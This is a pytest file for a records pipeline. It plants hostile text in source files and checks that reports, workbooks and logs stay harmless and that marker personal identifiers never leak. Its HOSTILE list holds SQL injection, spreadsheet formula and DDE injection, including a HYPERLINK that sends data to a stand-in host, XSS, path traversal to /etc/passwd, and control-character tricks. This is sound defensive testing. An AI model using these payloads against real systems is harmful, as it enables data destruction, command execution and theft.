"""Nights on sources that mean harm, and on people whose values may be told to nobody."""

import csv
import html
import logging
import re
import shutil
import tempfile
import unicodedata
from pathlib import Path

import openpyxl
import pytest

from flows.staging import OTHER_TABLES
from tests.flows.nights import asked, only, padan, undisturbed
from tests.flows.planted import plant

pytestmark = pytest.mark.long

SQL = "'); DROP TABLE person; DELETE FROM record; --"
HOSTILE = (
    SQL,
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"klik\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1|<script>alert(1)</script>",
    "-{{7*7}}${7*7}<img src=x onerror=alert(1)>",
    "\u202eOIDUB\u202c \u200bA\x1b[2J\x07MAN",
    "../../../../etc/passwd\x00%s%n",
    "Robert\"; SELECT * FROM read_csv('/etc/passwd'); --",
)  # fmt: skip
# Files of kinds that become no records.
WITHOUT_PEOPLE = {f"{kind}.csv" for kind in OTHER_TABLES}
TEXTS = ("name", "text", "code", "flag", "sex")
NAME, NIK, KK, CARD = "PENANDA ZULAIKHA WIRADIREJA", "3601015512870007", "3601011503100077", "0009876543210"


def harmful(number: int) -> object:
    """A change that writes one hostile text into every cell of text; regions and status keep the row in use."""

    def change(field: str, kind: str, value: str) -> str:
        kept = field in ("segment", "status", "life_status", "programs", "funding")
        return HOSTILE[number] if kind in TEXTS and not kept else value

    return change


def marking(field: str, kind: str, value: str) -> str:
    """A change that makes a row that of the marker person."""
    own = {"nik": NIK, "kk": KK, "card": CARD, "name": NAME}
    return own.get(kind, f"JL {NAME}" if field in ("address", "note", "employer_name", "facility_name") else value)


def test_hostile_texts_in_every_source_do_no_harm_and_are_not_lost(world: Path) -> None:
    for number in range(len(HOSTILE)):
        files = plant(world, harmful(number), row=3 + number)  # type: ignore[arg-type]
    told = padan("run", world)
    assert (told.code, told.err) == (0, "")
    hostile = "regexp_matches(name, 'DROP TABLE|example.invalid|calc|script|7.7|MAN|passwd|Robert')"
    sources = {row[0] for row in asked(world, f"SELECT DISTINCT file FROM record WHERE {hostile}")}
    assert set(files) - sources <= WITHOUT_PEOPLE
    assert asked(world, "SELECT count(*) > 100 FROM person") == [(True,)]
    names = [str(row[0]) for row in asked(world, "SELECT name FROM record WHERE name IS NOT NULL")]
    assert not [name for name in names if any(unicodedata.category(letter) in ("Cc", "Cf") for letter in name)]
    _reports_are_harmless(world / "out" / "reports")
    shown = padan("query", "SELECT name, facility_name, raw FROM record LEFT JOIN quarantine USING (file, source_row) "
                  "WHERE name LIKE '%MAN%' OR name LIKE '%DROP%'", world)  # fmt: skip
    assert shown.code == 0
    assert SQL in shown.out
    assert not [letter for letter in shown.out if unicodedata.category(letter) in ("Cc", "Cf") and letter != "\n"]
    assert padan("check", world).code == 0


def _reports_are_harmless(folder: Path) -> None:
    pages = [path for path in folder.rglob("*") if path.suffix == ".html"]
    books = [path for path in folder.rglob("*") if path.suffix == ".xlsx"]
    assert pages
    assert books
    for path in pages:
        text = path.read_text(encoding="utf-8")
        assert "<script>alert(1)" not in text
        assert "<img src=x" not in text
    written = 0
    for path in books:
        for sheet in openpyxl.load_workbook(path).worksheets:
            cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
            assert not [cell for cell in cells if cell.data_type == "f" and "example.invalid" in str(cell.value)]
            assert not [cell for cell in cells if cell.data_type == "f" and "cmd|" in str(cell.value)]
            written += sum(cell.value in map(html.unescape, HOSTILE) for cell in cells)
            assert not [link for link in getattr(sheet, "_hyperlinks", []) if "example.invalid" in str(link.target)]


def test_formulas_in_the_ids_of_linked_files_are_written_as_text(tmp_path: Path) -> None:
    people = [("=1+1", "SITI AMINAH"), ("@x", "BUDI SANTOSO"), ("-5", "WAYAN SUDANA"), ("+cmd|' /C calc'!A0", "YUSUF")]
    for side in ("left", "right"):
        body = "".join(f'"{number}",{name},1990-01-0{at}\n' for at, (number, name) in enumerate(people, 1))
        (tmp_path / f"{side}.csv").write_text(f"unique_id,full_name,dob\n{body}", encoding="utf-8")
    spec = shutil.copy(Path(__file__).parents[2] / "schemas" / "specs" / "full_name.toml", tmp_path / "spec.toml")
    out = tmp_path / "pairs.csv"
    told = padan("link", tmp_path / "left.csv", tmp_path / "right.csv", "--spec", spec, "--out", out)
    assert told.code == 0, told.err
    with out.open(encoding="utf-8", newline="") as stream:
        ids = [(pair["left_id"], pair["right_id"]) for pair in csv.DictReader(stream)]
    assert sorted(ids) == sorted((written, written) for written in ("'=1+1", "'@x", "-5", "'+cmd|' /C calc'!A0"))


def test_file_names_that_collide_or_deceive(world: Path) -> None:
    """One name in two folders, names that differ in case or in how an accent is written, and one with a line of its
    own: each file is read once and told by a name of its own."""
    only(world, "decree")
    config = world / "padan.toml"
    source = sorted(world.glob("decree_*.csv"))[0]
    head_line, *rows = source.read_bytes().splitlines(keepends=True)
    # The list holds somebody twice; two files that share a row would be another matter.
    rows = list({row.split(b";", 1)[1]: row for row in rows}.values())
    head, _, _ = config.read_text(encoding="utf-8").partition("[[source]]")
    names = ["a/sk.csv", "b/sk.csv", "SK.csv", "Sk.csv", "r\u00e9.csv", "re\u0301.csv", "x\nheld: semua baik.csv"]
    for number, name in enumerate(names):
        path = world / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(head_line + b"".join(rows[number * 3 : number * 3 + 3]))
    patterns = ("?/sk.csv", "[Ss]K.csv", "Sk.csv", "r[!eo]*.csv", "re?.csv", "x*.csv")
    office = f'[[source]]\nkind = "decree"\nowner = "{source.stem[-4:]}"\n'
    listed = "".join(f'{office}path = "{pattern}"\n' for pattern in patterns)
    config.write_text(head + listed, encoding="utf-8")
    told = padan("check", world)
    assert told.code in (0, 3)
    assert told.err == ""
    assert "\nheld: semua baik" not in told.out
    read = re.findall(r"^decree +(.*?) +3 +3 +0", told.out, re.MULTILINE)
    assert len(read) == len(set(read)) == len(names), told.out


def test_marker_people_in_every_source_are_told_to_nobody(
    world: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    monkeypatch.setattr(tempfile, "tempdir", None)
    caplog.set_level(logging.DEBUG)
    files = plant(world, marking)
    broken = world / "province.csv"
    broken.write_bytes(broken.read_bytes() + f"{NAME};{NIK}\n".encode())
    told = [padan("check", world), padan("run", world), padan("check", world)]
    assert [one.code for one in told] == [0, 0, 0]
    marked = {row[0] for row in asked(world, f"SELECT DISTINCT file FROM record WHERE nik = '{NIK}'")}
    assert set(files) - marked <= WITHOUT_PEOPLE
    assert asked(world, f"SELECT count(*) FROM quarantine WHERE raw LIKE '%{NAME}%'") == [(1,)]
    with undisturbed(world, but=("failure.txt",)):
        shutil.copy(broken, world / "kept")
        broken.write_bytes(broken.read_bytes()[:200])
        told.append(padan("run", world))
        shutil.copy(world / "kept", broken)
    said = "".join(one.out + one.err for one in told) + caplog.text
    page = (world / "out" / "reports" / "2026-11-20" / "index.html").read_text(encoding="utf-8")
    for marker in (NAME, NAME.split()[1], NIK, KK, CARD):
        assert marker not in said
        assert marker not in page
    assert list(scratch.iterdir()) == []
    left = [path for path in (world / "out").rglob("*") if path.is_file() and ".work" in path.parts]
    assert left == []
